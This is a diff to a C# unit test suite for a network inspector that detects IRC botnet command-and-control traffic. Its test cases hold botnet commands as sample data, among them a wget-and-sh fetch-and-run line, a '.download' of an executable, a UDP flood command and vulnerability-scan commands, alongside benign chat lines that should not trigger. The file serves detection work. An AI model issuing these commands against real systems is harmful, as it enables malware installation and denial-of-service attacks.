@@ -12,7 +12,7 @@ public class IndicatorPeekTests
     private static Indicator? Look(byte[] payload, bool fromResponder = false, AppProtocol application = AppProtocol.Unknown)
     {
         var state = new PeekState { Application = application };
-        return new PayloadPeek().Look(ref state, fromResponder, IpProtocol.Tcp, 40_000, 4444, payload) as Indicator;
+        return FilledWordTests.FirstIndicator(new PayloadPeek().Look(ref state, fromResponder, IpProtocol.Tcp, 40_000, 4444, payload));
     }
 
     private static Indicator? Look(string payload, bool fromResponder = false, AppProtocol application = AppProtocol.Unknown) =>
@@ -80,6 +80,7 @@ public class IndicatorPeekTests
     [Theory]
     [InlineData(":boss!x@y PRIVMSG #c :!* SH wget http://203.0.113.9/a;sh a\r\n", true)]
     [InlineData(":boss!x@y PRIVMSG #c :.download http://[2001:db8::9]/a.exe c:\\a.exe 1\r\n", true)]
+    [InlineData(":boss!x@y PRIVMSG #c :.download http://2001:db8::9/a.exe c:\\a.exe 1\r\n", true)]
     [InlineData(":boss!x@y PRIVMSG #c :!bot @udpflood 198.18.4.4 1000 30\r\n", true)]
     [InlineData(":ann!x@y PRIVMSG #c :!whois @bob 192.0.2.9\r\n", false)]
     [InlineData(":ann!x@y PRIVMSG #c :!title http://192.0.2.9/photos\r\n", false)]
@@ -389,6 +390,15 @@ public class IndicatorPeekTests
     [Theory]
     [InlineData("NICK [DEU|W10|x64]48213\r\nUSER x 0 * :x\r\n", false, true)]
     [InlineData("NICK USA|XP|00|81273\r\n", false, true)]
+    [InlineData("NICK n{US|10a}zwaxzo\r\n", false, true)]
+    [InlineData("NICK [DEU|XP]02ced1\r\n", false, true)]
+    [InlineData("NICK [DEU|XP]Maximilian\r\n", false, false)]
+    [InlineData("NICK [US|AFK]hunter22\r\n", false, false)]
+    [InlineData("NICK [XP]user12345\r\n", false, false)]
+    [InlineData(":irc 332 zx #wnkv :.advscan asn445 100 5 0 -b\r\n", true, true)]
+    [InlineData(":boss!x@y PRIVMSG #rx :!scan lsass 200 3 0\r\n", true, true)]
+    [InlineData(":irc 332 ann #dev :.NET 9 is out, scan your code: 3 2 1\r\n", true, false)]
+    [InlineData(":ann!x@y PRIVMSG #ops :!scan web01 443 8443\r\n", true, false)]
     [InlineData("NICK Bob|1985\r\n", false, false)]
     [InlineData("NICK [UK]Anna|away\r\n", false, false)]
     [InlineData("NICK [GER|1337]Max\r\n", false, false)]
